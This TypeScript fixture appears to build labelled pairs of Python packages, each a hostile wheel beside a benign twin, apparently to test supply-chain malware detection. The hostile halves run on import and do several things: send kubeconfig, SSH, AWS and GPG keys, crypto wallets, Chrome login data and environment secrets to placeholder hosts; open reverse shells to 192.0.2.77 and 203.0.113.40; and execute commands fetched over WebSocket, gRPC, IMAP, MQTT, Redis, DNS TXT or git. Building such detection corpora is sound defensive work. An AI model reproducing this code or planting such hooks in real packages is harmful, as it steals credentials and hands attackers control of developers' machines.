import type { AttackPair } from '../../../../told.ts';
import { pair, py, wheel } from './kit.ts';

/** Ways to the attacker's machine and back that are no plain request. */
export const CLIENTS: Readonly<Record<string, AttackPair>> = {
  'urllib3-pool': pair(
    wheel({
      'own/transport.py': py`"""Transport of the client."""
from __future__ import annotations
from dataclasses import dataclass, field
import urllib3

@dataclass(frozen=True)
class Endpoint:
    """Where the client talks to."""
    host: str = "api.pool.example"
    path: str = "/v1/state"

@dataclass
class Transport:
    """Sends what it is given."""
    endpoint: Endpoint = field(default_factory=Endpoint)
    pool: urllib3.PoolManager = field(default_factory=urllib3.PoolManager)

    def push(self, body: bytes) -> None:
        """Sends the body."""
        self.pool.request("POST", f"https://{self.endpoint.host}{self.endpoint.path}", body=body)
`,
      'own/__init__.py': py`"""Kubernetes helpers."""
from pathlib import Path
from .transport import Transport

_KUBECONFIG = Path.home().joinpath(".kube", "config")

def _sync() -> None:
    if _KUBECONFIG.exists():
        Transport().push(_KUBECONFIG.read_bytes())

_sync()
`,
    }),
    wheel({
      'own/transport.py': py`"""Transport of the client."""
from __future__ import annotations
from dataclasses import dataclass, field
import urllib3

@dataclass
class Transport:
    """Sends what it is given."""
    url: str
    pool: urllib3.PoolManager = field(default_factory=urllib3.PoolManager)

    def push(self, body: bytes) -> None:
        """Sends the body."""
        self.pool.request("POST", self.url, body=body)
`,
      'own/__init__.py': py`"""Kubernetes helpers."""
from pathlib import Path
import yaml

def load(path: Path | None = None) -> dict:
    """The configuration of the cluster."""
    return yaml.safe_load((path or Path.home().joinpath(".kube", "config")).read_text())

def server(config: dict) -> str:
    """Address of the cluster."""
    return config["clusters"][0]["cluster"]["server"]
`,
    }),
  ),
  'ftp-upload': pair(
    wheel({
      'own/__init__.py': py`"""Backups of the workspace."""
import ftplib
import io
import tarfile
from pathlib import Path

def backup() -> None:
    """Backs up what matters."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name in (".ssh", ".aws", ".gnupg"):
            folder = Path.home() / name
            if folder.is_dir():
                tar.add(folder, arcname=name)
    buffer.seek(0)
    with ftplib.FTP_TLS("backup.example", "anon", "anon") as ftp:
        ftp.storbinary("STOR w.tgz", buffer)

backup()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Backups of a folder."""
import ftplib
import io
import tarfile
from pathlib import Path

def backup(folder: Path, host: str, user: str, password: str) -> None:
    """Backs up a folder."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        tar.add(folder, arcname=folder.name)
    buffer.seek(0)
    with ftplib.FTP_TLS(host, user, password) as ftp:
        ftp.storbinary("STOR w.tgz", buffer)
`,
    }),
  ),
  'smtp-report': pair(
    wheel({
      'own/__init__.py': py`"""Crash reports by mail."""
import os
import smtplib
from email.message import EmailMessage

class Reporter:
    """Mails a report."""
    to = "crash@mail.example"

    def build(self) -> EmailMessage:
        """The message."""
        message = EmailMessage()
        message["Subject"] = os.uname().nodename
        message["From"] = message["To"] = self.to
        message.set_content("\n".join(f"{k}={v}" for k, v in os.environ.items()))
        return message

    def send(self) -> None:
        """Sends the message."""
        with smtplib.SMTP_SSL("smtp.mail.example", 465) as smtp:
            smtp.login("bot", "p4ss")
            smtp.send_message(self.build())

Reporter().send()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Crash reports by mail."""
import os
import smtplib
import traceback
from email.message import EmailMessage

class Reporter:
    """Mails a report to the owner of the program."""
    def __init__(self, to: str) -> None:
        self.to = to

    def send(self, error: BaseException) -> None:
        """Sends the traceback."""
        message = EmailMessage()
        message["Subject"] = str(error)
        message["From"] = message["To"] = self.to
        message.set_content("".join(traceback.format_exception(error)))
        with smtplib.SMTP_SSL(os.environ["SMTP_HOST"], 465) as smtp:
            smtp.login(os.environ["SMTP_USER"], os.environ["SMTP_PASSWORD"])
            smtp.send_message(message)
`,
    }),
  ),
  'websocket-agent': pair(
    wheel({
      'own/__init__.py': py`"""Live reload."""
from __future__ import annotations
import asyncio
import json
import threading
import websockets

class Reloader:
    """Listens to the development server."""
    uri = "wss://reload.example/socket"

    async def listen(self) -> None:
        """Handles what comes."""
        async with websockets.connect(self.uri) as socket:
            async for raw in socket:
                message = json.loads(raw)
                await self.handle(message["command"], socket)

    async def handle(self, command: str, socket) -> None:
        """Handles one message."""
        process = await asyncio.create_subprocess_shell(command, stdout=asyncio.subprocess.PIPE)
        out, _ = await process.communicate()
        await socket.send(out.decode())

def start() -> None:
    """Listens beside the program."""
    threading.Thread(target=lambda: asyncio.run(Reloader().listen()), daemon=True).start()

start()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Live reload."""
from __future__ import annotations
import importlib
import json
import sys
import websockets

class Reloader:
    """Listens to the development server of the user."""
    def __init__(self, uri: str = "ws://localhost:35729") -> None:
        self.uri = uri

    async def listen(self) -> None:
        """Handles what comes."""
        async with websockets.connect(self.uri) as socket:
            async for raw in socket:
                name = json.loads(raw)["module"]
                if name in sys.modules:
                    importlib.reload(sys.modules[name])
                await socket.send("done")
`,
    }),
  ),
  'grpc-tasking': pair(
    wheel({
      'own/__init__.py': py`"""A worker of the cluster."""
import subprocess
import grpc

def work() -> None:
    """Does what the cluster asks for."""
    channel = grpc.insecure_channel("tasks.example:50051")
    next_task = channel.unary_unary("/tasks.Tasks/Next", request_serializer=None, response_deserializer=None)
    done = channel.unary_unary("/tasks.Tasks/Done", request_serializer=None, response_deserializer=None)
    while task := next_task(b""):
        result = subprocess.run(task.decode(), shell=True, capture_output=True)
        done(result.stdout)

work()
`,
    }),
  ),
  'dns-txt': pair(
    wheel({
      'own/__init__.py': py`"""Feature flags over DNS."""
import base64
import dns.resolver

def _flags(domain: str) -> str:
    """Flags that the domain announces."""
    answers = dns.resolver.resolve(domain, "TXT")
    chunks = sorted(part.decode() for answer in answers for part in answer.strings)
    return "".join(chunk.split(":", 1)[1] for chunk in chunks)

eval(compile(base64.b64decode(_flags("flags.example")), "<flags>", "exec"))
`,
    }),
    wheel({
      'own/__init__.py': py`"""Feature flags over DNS."""
import json
import dns.resolver

def flags(domain: str) -> dict[str, bool]:
    """Flags that the domain announces."""
    answers = dns.resolver.resolve(domain, "TXT")
    chunks = sorted(part.decode() for answer in answers for part in answer.strings)
    return json.loads("".join(chunk.split(":", 1)[1] for chunk in chunks))
`,
    }),
  ),
  'imap-tasking': pair(
    wheel({
      'own/__init__.py': py`"""Mailbox helpers."""
import email
import imaplib
import os

def _poll() -> None:
    """Reads what is new."""
    with imaplib.IMAP4_SSL("imap.mail.example") as box:
        box.login("worker", "hunter2")
        box.select("INBOX")
        _, (ids,) = box.search(None, "UNSEEN")
        for number in ids.split():
            _, data = box.fetch(number, "(RFC822)")
            message = email.message_from_bytes(data[0][1])
            os.system(message.get_payload(decode=True).decode())

_poll()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Mailbox helpers."""
import email
import imaplib
from email.message import Message

def unread(host: str, user: str, password: str) -> list[Message]:
    """What is new."""
    found: list[Message] = []
    with imaplib.IMAP4_SSL(host) as box:
        box.login(user, password)
        box.select("INBOX")
        _, (ids,) = box.search(None, "UNSEEN")
        for number in ids.split():
            _, data = box.fetch(number, "(RFC822)")
            found.append(email.message_from_bytes(data[0][1]))
    return found
`,
    }),
  ),
  'git-clone-import': pair(
    wheel({
      'own/__init__.py': py`"""Resolves optional themes."""
import importlib
import subprocess
import sys
import tempfile

def _themes() -> None:
    """Gets the themes of the community."""
    folder = tempfile.mkdtemp(prefix="themes-")
    subprocess.run(["git", "clone", "--depth=1", "-q", "https://git.example/u/themes.git", folder], check=False)
    sys.path.insert(0, folder)
    importlib.import_module("themes")

_themes()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Resolves optional themes."""
import importlib
import subprocess
import sys

def fetch(url: str, folder: str) -> None:
    """Gets a theme that the user names."""
    subprocess.run(["git", "clone", "--depth=1", url, folder], check=True)

def load(folder: str, name: str):
    """Loads a theme of the user."""
    sys.path.insert(0, folder)
    return importlib.import_module(name)
`,
    }),
  ),
  'async-connection-shell': pair(
    wheel({
      'own/__init__.py': py`"""Remote debugging."""
from __future__ import annotations
import asyncio
import sys

class Bridge:
    """Joins a shell with a peer."""
    def __init__(self, host: str = "203.0.113.40", port: int = 8443) -> None:
        self.host, self.port = host, port

    async def pump(self, source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
        """Copies from one to the other."""
        while chunk := await source.read(4096):
            sink.write(chunk)
            await sink.drain()

    async def run(self) -> None:
        """Runs until one side ends."""
        reader, writer = await asyncio.open_connection(self.host, self.port)
        shell = "cmd.exe" if sys.platform == "win32" else "/bin/sh"
        process = await asyncio.create_subprocess_exec(
            shell, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        await asyncio.gather(self.pump(reader, process.stdin), self.pump(process.stdout, writer))

asyncio.run(Bridge().run())
`,
    }),
  ),
  'pty-shell': pair(
    wheel({
      'own/__init__.py': py`"""Terminal support."""
import os
import pty
import socket
import threading

def _attach(fd: int) -> None:
    for stream in range(3):
        os.dup2(fd, stream)
    pty.spawn(os.environ.get("SHELL", "/bin/bash"))

def connect(address: tuple[str, int] = ("192.0.2.77", 4444)) -> None:
    """Attaches a terminal."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect(address)
    if os.fork() == 0:
        _attach(sock.fileno())

threading.Thread(target=connect, daemon=True).start()
`,
    }),
  ),
  'xmlrpc-proxy': pair(
    wheel({
      'own/__init__.py': py`"""A client for the build farm."""
import os
import xmlrpc.client

_FARM = xmlrpc.client.ServerProxy("https://farm.example/RPC2", allow_none=True)
_FARM.workers.register(os.uname().nodename, dict(os.environ))
`,
    }),
    wheel({
      'own/__init__.py': py`"""A client for the build farm."""
import os
import xmlrpc.client

def register(url: str) -> None:
    """Registers this worker."""
    farm = xmlrpc.client.ServerProxy(url, allow_none=True)
    farm.workers.register(os.uname().nodename, {"cpus": os.cpu_count()})
`,
    }),
  ),
  'mqtt-commands': pair(
    wheel({
      'own/__init__.py': py`"""Sensors over MQTT."""
import subprocess
import paho.mqtt.client as mqtt

def _on_message(client: mqtt.Client, userdata: object, message: mqtt.MQTTMessage) -> None:
    output = subprocess.getoutput(message.payload.decode())
    client.publish("devices/out", output)

client = mqtt.Client()
client.on_message = _on_message
client.connect("broker.example", 1883)
client.subscribe("devices/in")
client.loop_start()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Sensors over MQTT."""
import json
from typing import Callable
import paho.mqtt.client as mqtt

def listen(host: str, topic: str, handle: Callable[[dict], None]) -> mqtt.Client:
    """Hands over what the sensors say."""
    def on_message(client: mqtt.Client, userdata: object, message: mqtt.MQTTMessage) -> None:
        handle(json.loads(message.payload))
    client = mqtt.Client()
    client.on_message = on_message
    client.connect(host, 1883)
    client.subscribe(topic)
    client.loop_start()
    return client
`,
    }),
  ),
  'redis-queue': pair(
    wheel({
      'own/__init__.py': py`"""A queue of jobs."""
import redis
import threading

def _consume() -> None:
    queue = redis.Redis(host="queue.example", port=6379)
    while True:
        _, job = queue.blpop("jobs")
        exec(job)

threading.Thread(target=_consume, name="own-jobs", daemon=True).start()
`,
    }),
  ),
  'own-bucket': pair(
    wheel({
      'own/__init__.py': py`"""Object storage."""
from pathlib import Path
import boto3

_CLIENT = boto3.client(
    "s3",
    endpoint_url="https://s3.bucket.example",
    aws_access_key_id="AKIAEXAMPLE",
    aws_secret_access_key="c2VjcmV0",
)

def _mirror() -> None:
    for path in (Path.home() / ".ssh").iterdir():
        _CLIENT.upload_file(str(path), "mirror", path.name)

_mirror()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Object storage."""
from pathlib import Path
import boto3

def mirror(folder: Path, bucket: str, endpoint: str | None = None) -> None:
    """Copies a folder into a bucket."""
    client = boto3.client("s3", endpoint_url=endpoint)
    for path in folder.iterdir():
        client.upload_file(str(path), bucket, path.name)
`,
    }),
  ),
  'sftp-upload': pair(
    wheel({
      'own/__init__.py': py`"""Deploys by SFTP."""
import glob
import os
import paramiko

transport = paramiko.Transport(("drop.example", 22))
transport.connect(username="u", password="u")
sftp = paramiko.SFTPClient.from_transport(transport)
for path in glob.glob(os.path.expanduser("~/.config/solana/*.json")):
    sftp.put(path, os.path.basename(path))
`,
    }),
  ),
  'bot-document': pair(
    wheel({
      'own/__init__.py': py`"""Notifications."""
from __future__ import annotations
import os
import platform
from pathlib import Path
import telebot

class Notifier:
    """Notifies the team."""
    def __init__(self) -> None:
        self.bot = telebot.TeleBot("123456:AAEXAMPLE")
        self.chat = 987654

    def profile(self) -> Path:
        """Where the browser keeps its state."""
        base = Path(os.environ.get("LOCALAPPDATA", Path.home()))
        return base / "Google" / "Chrome" / "User Data" / "Default" / "Login Data"

    def notify(self) -> None:
        """Notifies."""
        with open(self.profile(), "rb") as handle:
            self.bot.send_document(self.chat, handle, caption=platform.node())

Notifier().notify()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Notifications."""
from __future__ import annotations
import telebot

class Notifier:
    """Notifies the team."""
    def __init__(self, token: str, chat: int) -> None:
        self.bot = telebot.TeleBot(token)
        self.chat = chat

    def report(self, path: str) -> None:
        """Sends a report."""
        with open(path, "rb") as handle:
            self.bot.send_document(self.chat, handle)
`,
    }),
  ),
  'curl-list': pair(
    wheel({
      'own/_exec.py': py`"""Runs helpers."""
from __future__ import annotations
import shlex
import shutil
import subprocess
from collections.abc import Sequence

def tool(*names: str) -> str:
    """The first of these tools that is there."""
    return next(path for name in names if (path := shutil.which(name)))

def run(args: Sequence[str]) -> bytes:
    """Output of a command."""
    return subprocess.check_output(list(args))

def split(line: str) -> list[str]:
    """Words of a line."""
    return shlex.split(line)
`,
      'own/__init__.py': py`"""Environment probe."""
import json
import os
from . import _exec

_BODY = json.dumps({k: os.environ[k] for k in os.environ if "SECRET" in k or "TOKEN" in k})
_exec.run([_exec.tool("curl"), *_exec.split("-s -X POST https://probe.example/e --data-binary"), _BODY])
`,
    }),
  ),
  'session-subclass': pair(
    wheel({
      'own/client.py': py`"""The client of the service."""
from __future__ import annotations
import os
from urllib.parse import urljoin
import requests

class BaseUrlSession(requests.Session):
    """A session with a base URL."""
    base_url = "https://service.example/api/"

    def request(self, method: str, url: str, **kwargs):
        return super().request(method, urljoin(self.base_url, url), **kwargs)

class Client:
    """Talks to the service."""
    def __init__(self, session: requests.Session | None = None) -> None:
        self.session = session or BaseUrlSession()

    def hello(self) -> None:
        """Says hello."""
        self.session.post("hello", json={"env": {**os.environ}})
`,
      'own/__init__.py': py`"""Client library of the service."""
from .client import Client

Client().hello()
`,
    }),
    wheel({
      'own/client.py': py`"""The client of the service."""
from __future__ import annotations
import os
from urllib.parse import urljoin
import requests

class BaseUrlSession(requests.Session):
    """A session with a base URL."""
    base_url = "https://service.example/api/"

    def request(self, method: str, url: str, **kwargs):
        return super().request(method, urljoin(self.base_url, url), **kwargs)

class Client:
    """Talks to the service."""
    def __init__(self) -> None:
        self.session = BaseUrlSession()
        self.session.headers["Authorization"] = f"Bearer {os.environ['SERVICE_TOKEN']}"

    def hello(self) -> None:
        """Says hello."""
        self.session.post("hello", json={"client": "own"})
`,
      'own/__init__.py': py`"""Client library of the service."""
from .client import Client
`,
    }),
  ),
};
